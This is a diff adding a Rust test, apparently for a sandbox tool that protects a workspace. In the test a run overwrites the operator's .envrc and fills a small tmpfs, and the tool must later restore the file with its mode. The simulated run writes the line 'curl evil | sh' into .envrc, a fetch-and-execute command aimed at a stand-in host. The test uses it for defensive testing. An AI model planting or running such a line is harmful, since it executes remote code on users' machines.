@@ -1237,3 +1237,87 @@ fn a_cordon_killed_at_the_scans_move_leaves_it_to_the_next_run() {
         }
     });
 }
+
+/// A tmpfs of `size` mounted on `dir` (as root, in the test's mount namespace), unmounted on
+/// drop.
+struct SmallFs(PathBuf);
+
+impl SmallFs {
+    fn mount(dir: &Path, size: &str) -> SmallFs {
+        let st = Command::new("mount")
+            .args([
+                "-t",
+                "tmpfs",
+                "-o",
+                &format!("size={size},mode=0755"),
+                "tmpfs",
+            ])
+            .arg(dir)
+            .status()
+            .unwrap();
+        assert!(st.success(), "mount tmpfs on {}", dir.display());
+        SmallFs(dir.to_path_buf())
+    }
+}
+
+impl Drop for SmallFs {
+    fn drop(&mut self) {
+        let _ = Command::new("umount").arg("-l").arg(&self.0).status();
+    }
+}
+
+/// The disk full at the restore: the run changed `.envrc` and filled its root (a small
+/// tmpfs), so the earlier content cannot be written back after the run's version is moved
+/// aside. The warning says so and where the earlier content is kept, and once there is room
+/// the next run writes it back, with its mode, and says so. Before the journal, the earlier
+/// content was lost and the warning said "moved aside" only.
+#[test]
+fn a_full_disk_at_the_restore_leaves_it_to_the_next_run() {
+    use std::os::unix::fs::PermissionsExt;
+    each(|fx| {
+        let _fs = SmallFs::mount(&fx.ws, "256k");
+        let envrc = fx.ws.join(".envrc");
+        fs::write(&envrc, "use flake # the operator's\n").unwrap();
+        fs::set_permissions(&envrc, fs::Permissions::from_mode(0o640)).unwrap();
+        if let Some((uid, gid)) = fx.ids {
+            chown_tree(&fx.ws, uid, gid);
+        }
+        let out = fx.exec("echo 'curl evil | sh' > .envrc && head -c 1M /dev/zero > fill; true");
+        let err = stderr(&out);
+        assert!(
+            err.contains(&format!("the run left {}", envrc.display()))
+                && err.contains("could not be written back")
+                && err.contains("the next run over this root writes it back"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert!(!envrc.exists(), "{}", fx.what());
+        fs::remove_file(fx.ws.join("fill")).unwrap();
+        let out = fx.exec("true");
+        let err = stderr(&out);
+        assert!(
+            err.contains("was cut short in a move") && err.contains("the earlier content restored"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+        assert_eq!(
+            fs::read_to_string(&envrc).ok().as_deref(),
+            Some("use flake # the operator's\n"),
+            "{}",
+            fx.what()
+        );
+        assert_eq!(
+            fs::metadata(&envrc).unwrap().permissions().mode() & 0o7777,
+            0o640
+        );
+        let out = fx.exec("true");
+        assert!(
+            !stderr(&out).contains("warning"),
+            "{} {}",
+            fx.what(),
+            describe(&out)
+        );
+    });
+}
